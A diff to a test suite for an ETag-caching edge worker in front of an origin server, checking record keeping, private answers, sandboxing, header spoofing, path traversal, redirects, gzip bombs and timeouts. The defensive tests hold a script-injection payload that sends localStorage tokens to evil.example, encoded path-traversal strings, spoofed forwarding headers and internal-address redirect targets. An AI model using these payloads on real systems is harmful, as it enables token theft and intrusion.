@@ -10,18 +10,29 @@ import { beforeEach, describe, expect, inject, it } from 'vitest'
 import type { ReplicaStats } from '../../scripts/replica-origin.ts'
 import type { Env } from '../../src/env.ts'
 import { ORIGIN_RECORD_PREFIX } from '../../src/store/keys.ts'
-import { fetchWith } from './api.ts'
+import { expectProblem, fetchWith, forbidUnexpectedErrors, observedKv, sha256Tag, sleep } from './api.ts'
 
 const ORIGIN = inject('replicaOrigin')
 const EDGE = 'https://edge-etag.test'
 const { DOCUMENTS } = env as Env
 
-type Settings = Partial<Pick<Env, 'ORIGIN_URL' | 'ORIGIN_PREFIX' | 'ORIGIN_TIMEOUT_MS'>>
+type Settings = Partial<
+  Pick<Env, 'ORIGIN_URL' | 'ORIGIN_PREFIX' | 'ORIGIN_TIMEOUT_MS' | 'ORIGIN_RECORD_QUERY' | 'DOCUMENTS'>
+>
 
 /** edge sends a request to the worker with origin mode on (ORIGIN_URL the test origin, prefix /legacy). */
 function edge(path: string, init: RequestInit = {}, settings: Settings = {}): Promise<Response> {
-  return fetchWith({ ORIGIN_URL: ORIGIN, ORIGIN_PREFIX: '/legacy', ...settings }, `${EDGE}${path}`, init)
+  return edgeAt(EDGE, path, init, settings)
 }
+
+/** edgeAt sends a request to the worker under another host name, as a client may name any in Host. */
+function edgeAt(host: string, path: string, init: RequestInit = {}, settings: Settings = {}) {
+  return fetchWith({ ORIGIN_URL: ORIGIN, ORIGIN_PREFIX: '/legacy', ...settings }, `${host}${path}`, init)
+}
+
+// No request in this file is the server's fault: anything logged as an error fails the test that logged it,
+// and a green run prints nothing alarming.
+forbidUnexpectedErrors()
 
 // biome-ignore lint/suspicious/noExplicitAny: bodies are checked member by member
 function json(response: Response): Promise<any> {
@@ -36,11 +47,44 @@ function freshPath(): string {
   return `/fresh/${crypto.randomUUID()}`
 }
 
-/** originRecords returns the values of every origin record in KV. */
-async function originRecords(): Promise<string[]> {
-  const { keys } = await DOCUMENTS.list({ prefix: ORIGIN_RECORD_PREFIX })
-  const values = await Promise.all(keys.map((key) => DOCUMENTS.get(key.name, 'text')))
-  return values.filter((value) => value !== null)
+/** recordCount returns how many origin records KV holds. */
+async function recordCount(): Promise<number> {
+  let count = 0
+  let cursor: string | undefined
+  do {
+    const page: KVNamespaceListResult<unknown> = await DOCUMENTS.list({
+      prefix: ORIGIN_RECORD_PREFIX,
+      ...(cursor === undefined ? {} : { cursor }),
+    })
+    count += page.keys.length
+    cursor = page.list_complete ? undefined : page.cursor
+  } while (cursor !== undefined)
+  return count
+}
+
+interface StoredRecord {
+  vary: string[]
+  variants: Record<string, { etag: string; lastModified: string | null; originTags: string[] }>
+}
+
+/**
+ * recordOf returns the record KV holds for an origin path, or null, found the way the store names it (the
+ * SHA-256 of the origin URL, base64url), computed here independently of src/.
+ */
+async function recordOf(originPath: string): Promise<StoredRecord | null> {
+  const url = new URL(originPath, ORIGIN).href
+  const digest = (await sha256Tag(new TextEncoder().encode(url))).slice(1, -1)
+  return DOCUMENTS.get(`${ORIGIN_RECORD_PREFIX}${digest}`, 'json')
+}
+
+/** conditions returns the If-None-Match each replica last received (null: none). */
+async function conditions(): Promise<Record<'a' | 'b', string | null>> {
+  return (await fetch(new URL('/__replicas/conditions', ORIGIN))).json()
+}
+
+/** untilNextSecond waits for the clock's next whole second, so that Last-Modified (one-second) can move. */
+async function untilNextSecond(): Promise<void> {
+  await sleep(1_000 - (Date.now() % 1_000) + 20)
 }
 
 async function stats(): Promise<Record<'a' | 'b', ReplicaStats>> {
@@ -57,6 +101,13 @@ async function changeAtOrigin(path: string, value: unknown): Promise<void> {
 
 function total(all: Record<'a' | 'b', ReplicaStats>, field: keyof ReplicaStats): number {
   return all.a[field] + all.b[field]
+}
+
+/** etag returns a response's ETag, failing the test when there is none. */
+function etag(response: Response): string {
+  const value = response.headers.get('ETag')
+  if (value === null) throw new Error(`${response.status} response has no ETag`)
+  return value
 }
 
 beforeEach(async () => {
@@ -114,6 +165,29 @@ describe('reads through edge-etag', () => {
     expect(total(after, 'bodyBytes')).toBe(total(before, 'bodyBytes'))
   })
 
+  it('send a replica its own recorded tag, and answer from its 304', async () => {
+    const path = freshPath()
+    await changeAtOrigin(path, { id: 'same replica' })
+    // 1. Replica a answers first (the round robin starts there after a reset); its tag is recorded.
+    const first = await edge(`/legacy${path}`)
+    expect(first.headers.get('X-Replica')).toBe('a')
+    const [variant] = Object.values((await recordOf(path))?.variants ?? {})
+    expect(variant?.originTags).toEqual([expect.stringMatching(/^"2c1f-/)])
+    // 2. Replica b takes a request of someone else, so the revalidation goes to a again.
+    expect((await fetch(new URL('/users/1', ORIGIN))).headers.get('X-Replica')).toBe('b')
+    const before = await stats()
+    const again = await edge(`/legacy${path}`, { headers: { 'If-None-Match': etag(first) } })
+    // 3. a was asked with its own tag, answered 304 with no body, and the client got ours.
+    expect((await conditions()).a).toBe(variant?.originTags[0])
+    const after = await stats()
+    expect(after.a.notModified - before.a.notModified).toBe(1)
+    expect(after.a.full - before.a.full).toBe(0)
+    expect(total(after, 'bodyBytes')).toBe(total(before, 'bodyBytes'))
+    expect(again.status).toBe(304)
+    expect(again.headers.get('ETag')).toBe(etag(first))
+    expect(again.headers.get('Last-Modified')).toBe(first.headers.get('Last-Modified'))
+  })
+
   it('still answer 304 when the replica has not told us its tag yet, after downloading the body', async () => {
     const first = await edge('/legacy/users/2')
     const etag = first.headers.get('ETag') as string
@@ -126,23 +200,24 @@ describe('reads through edge-etag', () => {
   })
 
   it('give a 200 with a new tag and a later Last-Modified once the content changes at the origin', async () => {
-    const first = await edge('/legacy/users/1')
-    await edge('/legacy/users/1')
+    const path = freshPath()
+    await changeAtOrigin(path, { id: 1, name: 'Ada Lovelace' })
+    const first = await edge(`/legacy${path}`)
     const etag = first.headers.get('ETag') as string
-    await changeAtOrigin('/users/1', { id: 1, name: 'Ada King', roles: ['admin'] })
-    const changed = await edge('/legacy/users/1', { headers: { 'If-None-Match': etag } })
+    // Bytes first seen within the second of the bytes before them get no date: step past that second.
+    await untilNextSecond()
+    await changeAtOrigin(path, { id: 1, name: 'Ada King', roles: ['admin'] })
+    const changed = await edge(`/legacy${path}`, { headers: { 'If-None-Match': etag } })
     expect(changed.status).toBe(200)
     expect(changed.headers.get('ETag')).not.toBe(etag)
     expect(await changed.text()).toBe('{"id":1,"name":"Ada King","roles":["admin"]}')
-    // New bytes date from now, or, first seen within the second of the old ones, have no date at all.
     const since = Date.parse(first.headers.get('Last-Modified') as string)
-    const lastModified = changed.headers.get('Last-Modified')
-    if (lastModified !== null) expect(Date.parse(lastModified)).toBeGreaterThan(since)
-    const conditional = await edge('/legacy/users/1', {
+    expect(Date.parse(changed.headers.get('Last-Modified') as string)).toBeGreaterThan(since)
+    const conditional = await edge(`/legacy${path}`, {
       headers: { 'If-Modified-Since': first.headers.get('Last-Modified') as string },
     })
     expect(conditional.status).toBe(200)
-    const again = await edge('/legacy/users/1', { headers: { 'If-None-Match': etag } })
+    const again = await edge(`/legacy${path}`, { headers: { 'If-None-Match': etag } })
     expect(again.status).toBe(200)
     expect(again.headers.get('ETag')).toBe(changed.headers.get('ETag'))
   })
@@ -202,14 +277,17 @@ describe('reads through edge-etag', () => {
   })
 
   it('remember the origin tags of every replica in KV, and nothing of the response body', async () => {
-    await edge('/legacy/users/1')
-    await edge('/legacy/users/1')
-    const record = (await originRecords()).find((text) => text.includes('"2c1f-'))
-    expect(record).toBeDefined()
-    const parsed = JSON.parse(record as string)
-    const [variant] = Object.values(parsed.variants) as { originTags: string[] }[]
-    expect(variant?.originTags).toHaveLength(2)
-    expect(record).not.toContain('Ada')
+    const path = freshPath()
+    await changeAtOrigin(path, { id: 1, name: 'Ada Lovelace' })
+    await edge(`/legacy${path}`)
+    await edge(`/legacy${path}`)
+    const record = await recordOf(path)
+    const [variant] = Object.values(record?.variants ?? {})
+    expect(variant?.originTags).toEqual([
+      expect.stringMatching(/^"[0-9a-f]+-/),
+      expect.stringMatching(/^"2c1f-/),
+    ])
+    expect(JSON.stringify(record)).not.toContain('Ada')
   })
 
   it('pass a cookie the origin sets on a 304 too', async () => {
@@ -259,18 +337,51 @@ describe('answers for one user', () => {
     expect((await json(alanWithAdaTag)).user).toBe('Bearer alan')
   })
 
-  it('get a 304 for a tag of their own bytes, hashed afresh, and leave no record', async () => {
-    const cookie = { Cookie: 'session=ada' }
-    const first = await edge('/legacy/me', { headers: cookie })
-    // The body names the replica that answered, so ask the same replica again (round robin: every other).
-    await edge('/legacy/hello.txt')
-    const again = await edge('/legacy/me', {
-      headers: { ...cookie, 'If-None-Match': first.headers.get('ETag') as string },
+  it('get no other requester’s validators, even from an origin that gives them one strong tag', async () => {
+    // The origin answers each API key with its own document, all with ETag "v1", and no Vary.
+    const ada = await edge('/legacy/tenant', { headers: { 'X-Api-Key': 'key-ada' } })
+    expect((await json(ada)).tenant).toBe('ada')
+    const alan = await edge('/legacy/tenant', { method: 'HEAD', headers: { 'X-Api-Key': 'key-alan' } })
+    expect(alan.status).toBe(200)
+    expect(alan.headers.get('ETag')).not.toBe(etag(ada))
+    expect(alan.headers.get('ETag')).toBe(
+      await sha256Tag(new TextEncoder().encode('{"plan":"free","tenant":"alan"}')),
+    )
+    expect(await recordOf('/tenant')).toBeNull()
+  })
+})
+
+describe('what is meant for one user', () => {
+  // Each row has one reason alone to stay unrecorded: the answers are public unless the row says otherwise.
+  it.each([
+    { reason: 'a request with Authorization', path: 'fresh', headers: { Authorization: 'Bearer ada' } },
+    { reason: 'a request with a Cookie', path: 'fresh', headers: { Cookie: 'session=ada' } },
+    { reason: 'a request with an X-Api-Key', path: 'fresh', headers: { 'X-Api-Key': 'key-ada' } },
+    { reason: 'an answer marked private', path: '/me', headers: {} },
+    { reason: 'an answer marked no-store', path: '/no-store', headers: {} },
+    { reason: 'an answer that sets a cookie', path: '/session', headers: {} },
+    { reason: 'an answer that varies on *', path: '/vary-star', headers: {} },
+  ])('leaves no record: $reason, yet gets a 304 for its own tag', async ({ path, headers }) => {
+    const originPath = path === 'fresh' ? freshPath() : path
+    if (path === 'fresh') await changeAtOrigin(originPath, { id: 'public bytes' })
+    const first = await edge(`/legacy${originPath}`, { headers })
+    expect(first.status).toBe(200)
+    expect(await recordOf(originPath)).toBeNull()
+    // /me names the replica that answered: ask the same one again (round robin: every other request).
+    if (path === '/me') await fetch(new URL('/users/1', ORIGIN))
+    const again = await edge(`/legacy${originPath}`, {
+      headers: { ...headers, 'If-None-Match': etag(first) },
     })
     expect(again.status).toBe(304)
-    // A record of /me would hold its Content-Type and a variant; none holds a private answer's tag.
-    const records = await originRecords()
-    expect(records.some((text) => text.includes(first.headers.get('ETag') as string))).toBe(false)
+    expect(await recordOf(originPath)).toBeNull()
+  })
+
+  it('is told apart from what is not: a public answer to a request without credentials is recorded', async () => {
+    const path = freshPath()
+    await changeAtOrigin(path, { id: 'public bytes' })
+    const first = await edge(`/legacy${path}`)
+    const record = await recordOf(path)
+    expect(Object.values(record?.variants ?? {}).map((variant) => variant.etag)).toEqual([etag(first)])
   })
 })
 
@@ -415,8 +526,8 @@ describe('writes through edge-etag', () => {
       body: JSON.stringify({ id: 3, name: 'Grace Hopper' }),
     })
     expect(created.status).toBe(201)
-    // The origin's Location names its own path; the client gets this worker's URL for it.
-    expect(created.headers.get('Location')).toBe(`${EDGE}/legacy/users/3`)
+    // The origin's Location names its own path; the client gets this worker's path for it.
+    expect(created.headers.get('Location')).toBe('/legacy/users/3')
     const etag = (await edge('/legacy/users/3')).headers.get('ETag') as string
     const deleted = await edge('/legacy/users/3', { method: 'DELETE', headers: { 'If-Match': etag } })
     expect(deleted.status).toBe(204)
@@ -442,5 +553,293 @@ describe('origin mode', () => {
     expect(answer.headers.get('Server-Timing')).toMatch(
       /^kv;dur=[\d.]+, hash;dur=[\d.]+, origin;dur=[\d.]+, total;dur=/,
     )
+  })
+})
+
+describe('answers from the origin, served on this worker’s origin', () => {
+  const hostile = `/legacy/reflect?name=${encodeURIComponent('<script>fetch("//evil.example/?t="+localStorage.token)</script>')}`
+
+  it('are sandboxed: a page of the origin gets an opaque origin and runs no script here', async () => {
+    const page = await edge(hostile)
+    expect(page.status).toBe(200)
+    expect(await page.text()).toContain('<script>')
+    expect(page.headers.get('Content-Security-Policy')).toBe('sandbox')
+    expect(page.headers.get('X-Content-Type-Options')).toBe('nosniff')
+  })
+
+  it.each([
+    { label: 'a hashed 200', path: '/legacy/users/1', init: {} },
+    { label: 'a 404 passed on', path: '/legacy/users/404', init: {} },
+    { label: 'a redirect passed on', path: '/legacy/located?status=302&location=/users/1', init: {} },
+    { label: 'a HEAD', path: '/legacy/users/1', init: { method: 'HEAD' } },
+    { label: 'a body in a coding not decoded', path: '/legacy/deflate', init: {} },
+    { label: 'the answer to a write', path: '/legacy/users/7', init: { method: 'PUT', body: '{"id":7}' } },
+  ])('are sandboxed whatever they are: $label', async ({ path, init }) => {
+    const answer = await edge(path, init)
+    expect(answer.status).toBeLessThan(500)
+    expect(answer.headers.get('Content-Security-Policy')).toBe('sandbox')
+    expect(answer.headers.get('X-Content-Type-Options')).toBe('nosniff')
+  })
+
+  it('are sandboxed on a 304 too', async () => {
+    const first = await edge('/legacy/users/1')
+    const again = await edge('/legacy/users/1', { headers: { 'If-None-Match': etag(first) } })
+    expect(again.status).toBe(304)
+    expect(again.headers.get('Content-Security-Policy')).toBe('sandbox')
+  })
+
+  it('keep the origin’s own policy beside the sandbox: both are enforced', async () => {
+    const csp = encodeURIComponent("default-src 'self'")
+    const answer = await edge(`/legacy/located?status=200&csp=${csp}`)
+    expect(answer.headers.get('Content-Security-Policy')).toBe("default-src 'self', sandbox")
+  })
+})
+
+describe('the request the origin gets', () => {
+  const spoofed = {
+    'X-Forwarded-For': '203.0.113.66',
+    'X-Real-IP': '203.0.113.66',
+    Forwarded: 'for=203.0.113.66;host=evil.example',
+    'True-Client-IP': '203.0.113.66',
+    'X-Forwarded-Host': 'evil.example',
+    'X-Forwarded-Proto': 'gopher',
+    'X-Forwarded-Port': '1',
+    'X-Original-URL': '/admin',
+    'X-Rewrite-URL': '/admin',
+    'X-HTTP-Method-Override': 'DELETE',
+    'X-Client-IP': '203.0.113.66',
+  }
+
+  it('carries the worker’s own Forwarded and X-Forwarded-*, from CF-Connecting-IP, never the client’s', async () => {
+    const answer = await edge('/legacy/echo', {
+      headers: { ...spoofed, 'CF-Connecting-IP': '198.51.100.7', Authorization: 'Bearer ada', Cookie: 'a=1' },
+    })
+    const { headers } = await json(answer)
+    expect(headers.forwarded).toBe('for=198.51.100.7;proto=https')
+    expect(headers['x-forwarded-for']).toBe('198.51.100.7')
+    expect(headers['x-forwarded-proto']).toBe('https')
+    for (const name of [
+      'x-real-ip',
+      'true-client-ip',
+      'x-forwarded-host',
+      'x-forwarded-port',
+      'x-original-url',
+    ]) {
+      expect(headers[name], name).toBeUndefined()
+    }
+    expect(headers['x-rewrite-url']).toBeUndefined()
+    expect(headers['x-http-method-override']).toBeUndefined()
+    expect(headers['x-client-ip']).toBeUndefined()
+    expect(JSON.stringify(headers)).not.toContain('203.0.113.66')
+    // Credentials reach the origin, by design: it decides who may see what.
+    expect(headers.authorization).toBe('Bearer ada')
+    expect(headers.cookie).toBe('a=1')
+  })
+
+  it('says for=unknown when the worker knows no client address', async () => {
+    const { headers } = await json(await edge('/legacy/echo', { headers: spoofed }))
+    expect(headers.forwarded).toBe('for=unknown;proto=https')
+    expect(headers['x-forwarded-for']).toBeUndefined()
+  })
+})
+
+describe('paths under the prefix', () => {
+  it.each([
+    '/legacy/..%2f..%2fsecret',
+    '/legacy/%2e%2e%2fsecret',
+    '/legacy/..%5csecret',
+    '/legacy/%u002e%u002e/secret',
+    '/legacy/%252e%252e/secret',
+    '/legacy/..%252fsecret',
+    '/legacy/users%00.json',
+    '/legacy/..;/secret',
+  ])('%s is refused with 400, and never reaches the origin', async (path) => {
+    expect(new URL(`${EDGE}${path}`).pathname).toBe(path)
+    const before = await stats()
+    const answer = await edge(path)
+    await expectProblem(answer, 400)
+    expect(total(await stats(), 'requests')).toBe(total(before, 'requests'))
+  })
+
+  it('that the URL parser resolves never leave the prefix: literal and %2e dot segments', async () => {
+    expect(new URL(`${EDGE}/legacy/%2e%2e/api/items`).pathname).toBe('/api/items')
+    expect((await edge('/legacy/%2e%2e/api/items')).headers.get('X-Replica')).toBeNull()
+  })
+
+  it('may hold any other escape', async () => {
+    const answer = await edge('/legacy/users/no%20such%20user')
+    expect(answer.status).toBe(404)
+    expect(answer.headers.get('X-Replica')).not.toBeNull()
+  })
+})
+
+describe('Location and Content-Location from the origin', () => {
+  it('are mapped to this worker’s path as relative references, whatever Host the client named', async () => {
+    const answer = await edgeAt('https://attacker.example', '/legacy/located?status=302&location=/users/1')
+    expect(answer.status).toBe(302)
+    expect(answer.headers.get('Location')).toBe('/legacy/users/1')
+    const content = await edgeAt('https://attacker.example', '/legacy/located?content-location=/users/1')
+    expect(content.headers.get('Content-Location')).toBe('/legacy/users/1')
+  })
+
+  it.each([
+    { label: 'an internal address', location: 'http://10.0.0.7/secret' },
+    { label: 'localhost', location: 'http://localhost:9000/admin' },
+    { label: 'the origin’s own host, outside its base', location: 'http://127.0.0.1:1/secret' },
+  ])('turn a redirect to $label into a 502 that names neither', async ({ location }) => {
+    const answer = await edge(`/legacy/located?status=302&location=${encodeURIComponent(location)}`)
+    const problem = await expectProblem(answer, 502)
+    expect(answer.headers.get('Location')).toBeNull()
+    expect(JSON.stringify(problem)).not.toContain(new URL(location).hostname)
+  })
+
+  it('drop such a Location from a write’s redirect, and keep its status: the origin has acted on it', async () => {
+    const location = encodeURIComponent('http://10.0.0.7/orders/9')
+    const answer = await edge(`/legacy/located?status=303&location=${location}`, {
+      method: 'POST',
+      body: '{}',
+    })
+    expect(answer.status).toBe(303)
+    expect(answer.headers.get('Location')).toBeNull()
+  })
+
+  it('pass a redirect to another public host as it is', async () => {
+    const location = 'https://login.example.com/sso?next=%2Flegacy'
+    const answer = await edge(`/legacy/located?status=302&location=${encodeURIComponent(location)}`)
+    expect(answer.status).toBe(302)
+    expect(answer.headers.get('Location')).toBe(location)
+  })
+
+  it('drop an internal Location or Content-Location from an answer that is no redirect, and keep the answer', async () => {
+    const internal = encodeURIComponent('http://10.0.0.7/users/9')
+    const created = await edge(`/legacy/located?status=201&location=${internal}&content-location=${internal}`)
+    expect(created.status).toBe(201)
+    expect(created.headers.get('Location')).toBeNull()
+    expect(created.headers.get('Content-Location')).toBeNull()
+    const hashed = await edge(`/legacy/located?content-location=${internal}`)
+    expect(hashed.status).toBe(200)
+    expect(hashed.headers.get('Content-Location')).toBeNull()
+  })
+})
+
+describe('KV writes', () => {
+  it('a thousand GETs with made-up query strings write no record, and are still answered with our tag', async () => {
+    const { kv, calls } = observedKv(DOCUMENTS)
+    const before = await recordCount()
+    const answers: Response[] = []
+    for (let batch = 0; batch < 40; batch++) {
+      const made = Array.from({ length: 25 }, () => `/legacy/users/1?r=${crypto.randomUUID()}`)
+      answers.push(...(await Promise.all(made.map((path) => edge(path, {}, { DOCUMENTS: kv })))))
+    }
+    expect(answers).toHaveLength(1_000)
+    expect(new Set(answers.map((answer) => answer.status))).toEqual(new Set([200]))
+    expect(new Set(answers.map((answer) => answer.headers.get('ETag'))).size).toBe(1)
+    expect(calls.operations.filter((operation) => operation.startsWith('put'))).toEqual([])
+    expect(calls.operations.filter((operation) => operation.startsWith('get'))).toEqual([])
+    expect(await recordCount()).toBe(before)
+    // Tagged as now: a 304 comes from comparing hashes, not from a record.
+    const again = await edge(`/legacy/users/1?r=${crypto.randomUUID()}`, {
+      headers: { 'If-None-Match': etag(answers[0] as Response) },
+    })
+    expect(again.status).toBe(304)
+  })
+
+  it('record a URL whose query holds only parameters ORIGIN_RECORD_QUERY lists', async () => {
+    const path = freshPath()
+    await changeAtOrigin(path, { id: 'paged' })
+    await edge(`/legacy${path}?page=2`)
+    expect(await recordOf(`${path}?page=2`)).toBeNull()
+    await edge(`/legacy${path}?page=2`, {}, { ORIGIN_RECORD_QUERY: 'page, limit' })
+    expect(await recordOf(`${path}?page=2`)).not.toBeNull()
+    await edge(`/legacy${path}?page=2&utm_source=x`, {}, { ORIGIN_RECORD_QUERY: 'page, limit' })
+    expect(await recordOf(`${path}?page=2&utm_source=x`)).toBeNull()
+  })
+})
+
+describe('bodies', () => {
+  it('hash JSON over the canonicalising limit byte for byte, as they came', async () => {
+    const answer = await edge('/legacy/bulk?bytes=1100000&type=json')
+    const bytes = new Uint8Array(await answer.arrayBuffer())
+    expect(bytes.byteLength).toBeGreaterThan(1_048_576)
+    expect(new TextDecoder().decode(bytes.slice(0, 3))).toBe('[ "')
+    expect(answer.headers.get('ETag')).toBe(await sha256Tag(bytes))
+  })
+
+  it('canonicalise JSON within the limit', async () => {
+    const answer = await edge('/legacy/bulk?bytes=1000000&type=json')
+    expect(new TextDecoder().decode((await answer.arrayBuffer()).slice(0, 3))).toBe('["x')
+  })
+
+  it('decode gzip from the origin to hash it, and send the canonical bytes', async () => {
+    const answer = await edge('/legacy/gzip')
+    expect(answer.status).toBe(200)
+    expect(answer.headers.get('Content-Encoding')).toBeNull()
+    expect(await answer.text()).toBe('{"by":"the origin","compressed":"with gzip"}')
+    expect(answer.headers.get('ETag')).toMatch(/^"[A-Za-z0-9_-]{43}"$/)
+  })
+
+  it('pass a gzip bomb on as it came, decoded only as far as the limit', async () => {
+    const started = Date.now()
+    const answer = await edge('/legacy/gzip-bomb')
+    expect(answer.status).toBe(200)
+    expect(answer.headers.get('ETag')).toBeNull()
+    expect(answer.headers.get('Content-Encoding')).toBe('gzip')
+    const coded = new Uint8Array(await answer.arrayBuffer())
+    expect(coded.byteLength).toBe(Number(answer.headers.get('Content-Length')))
+    expect(coded.byteLength).toBeLessThan(100_000)
+    expect([coded[0], coded[1]]).toEqual([0x1f, 0x8b])
+    expect(Date.now() - started).toBeLessThan(5_000)
+  })
+
+  it('pass a body in a coding not decoded on byte for byte', async () => {
+    const answer = await edge('/legacy/deflate')
+    const bytes = new Uint8Array(await answer.arrayBuffer())
+    expect(bytes[0]).toBe(0x78)
+    expect(bytes.byteLength).toBe(Number(answer.headers.get('Content-Length')))
+  })
+})
+
+describe('ORIGIN_TIMEOUT_MS', () => {
+  const quick = { ORIGIN_TIMEOUT_MS: '300' }
+
+  it('never cuts short a client that downloads slowly', async () => {
+    const size = 4 * 1_048_576
+    const answer = await edge(`/legacy/bulk?bytes=${size}&status=203`, {}, quick)
+    expect(answer.status).toBe(203)
+    await sleep(900)
+    expect((await answer.arrayBuffer()).byteLength).toBe(size)
+  })
+
+  it('bounds each silence of the origin, not the whole body: one sent in parts is hashed whole', async () => {
+    const answer = await edge('/legacy/trickle?parts=6&gap=120', {}, quick)
+    expect(answer.status).toBe(200)
+    expect(await answer.text()).toBe('[0,1,2,3,4,5]')
+    expect(answer.headers.get('ETag')).not.toBeNull()
+  })
+
+  it('turns an origin silent mid-body into a 504 when the body is hashed', async () => {
+    const answer = await edge('/legacy/trickle?parts=3&gap=1000', {}, quick)
+    const problem = await expectProblem(answer, 504)
+    expect(problem.detail).toBe('The origin sent nothing for 300 ms in the middle of its answer')
+  })
+
+  it('breaks off a passed-on body whose origin falls silent, rather than leave the client waiting', async () => {
+    const answer = await edge('/legacy/trickle?parts=3&gap=1000&status=203', {}, quick)
+    expect(answer.status).toBe(203)
+    await expect(answer.text()).rejects.toThrow()
+  })
+})
+
+describe('what cannot be passed on', () => {
+  it('turns an origin’s 101 into a 502 problem', async () => {
+    const problem = await expectProblem(await edge('/legacy/switching'), 502)
+    expect(problem.detail).toBe('The origin answered 101')
+  })
+
+  it('answers a request target of * with 400', async () => {
+    const settings = { ORIGIN_URL: ORIGIN, ORIGIN_PREFIX: '/legacy' }
+    // workerd builds this URL for `OPTIONS * HTTP/1.1` with `Host: edge-etag.test`.
+    await expectProblem(await fetchWith(settings, 'https://edge-etag.test*', { method: 'OPTIONS' }), 400)
+    await expectProblem(await fetchWith({ ...settings, ORIGIN_PREFIX: '' }, 'https://edge-etag.test*'), 400)
   })
 })
